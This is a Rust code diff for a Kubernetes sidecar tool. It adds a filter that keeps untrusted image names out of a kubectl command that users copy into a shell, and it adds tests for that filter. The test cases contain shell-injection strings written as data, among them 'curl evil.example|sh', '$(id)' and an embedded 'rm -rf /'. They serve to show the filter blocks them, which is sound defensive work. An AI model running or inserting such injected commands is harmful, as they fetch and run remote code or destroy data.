@@ -122,14 +122,23 @@ fn note(pod: &Pod, node: &str) -> Option<String> {
         return None;
     }
     let names: Vec<&str> = left.iter().map(|(name, _)| *name).collect();
-    let images: Vec<String> = left.iter().map(|(name, image)| format!("{name}={image}")).collect();
+    let images: Vec<String> =
+        left.iter().map(|(name, image)| format!("{name}={}", in_a_shell(image))).collect();
     Some(format!(
         "The main containers have ended, and virtual node {node} runs no agent that could end the sidecar(s) {}; Berth's manager \
-         may not write pods. To end them: kubectl set image pod/{} {}",
+         may not write pods. To end them, with the image that {SIDECAR_WITH_IMAGE} names: kubectl set image pod/{} {}",
         names.join(", "),
         pod.name_any(),
         images.join(" ")
     ))
+}
+
+/// An image as it may stand in a command that somebody copies into a shell. Whoever wrote the pod chose it: what is no reference of
+/// an image is left out, since it could be anything but an image there.
+fn in_a_shell(image: &str) -> &str {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._-/:@".contains(&byte);
+    // A "-" in front would not be taken for a flag here, behind "=", but no reference begins with one.
+    if image.bytes().all(plain) && !image.starts_with('-') { image } else { "IMAGE" }
 }
 
 /// The image that ends it on a virtual node.
@@ -248,6 +257,25 @@ mod tests {
         let note = note(&pod(policy, main, sidecar), "cloud");
         assert_eq!(note.is_some(), said, "{note:?}");
         assert!(note.is_none_or(|note| note.ends_with("kubectl set image pod/count proxy=quit:1")));
+    }
+
+    #[rstest]
+    #[case::a_reference("registry.example:5000/a/quit:1@sha256:0a", true)]
+    #[case::a_command("quit;curl evil.example|sh", false)]
+    #[case::a_substitution("$(id)", false)]
+    #[case::backquotes("`id`", false)]
+    #[case::more_words("quit:1 other=x", false)]
+    #[case::a_line_of_its_own("quit:1\nrm -rf /", false)]
+    #[case::a_quote("quit'", false)]
+    #[case::a_terminal_code("quit\u{1b}[2J", false)]
+    #[case::not_ascii("qui\u{3c4}:1", false)]
+    fn a_command_that_is_copied_does_what_it_says(#[case] image: &str, #[case] shown: bool) {
+        let mut pod = pod("Never", exited(0), running());
+        let env = pod.spec.as_mut().unwrap().containers[1].env.as_mut().unwrap();
+        env[0].value = Some(image.to_owned());
+        let note = note(&pod, "cloud").unwrap();
+        let image = if shown { image } else { "IMAGE" };
+        assert!(note.ends_with(&format!("kubectl set image pod/count proxy={image}")), "{note}");
     }
 
     #[test]
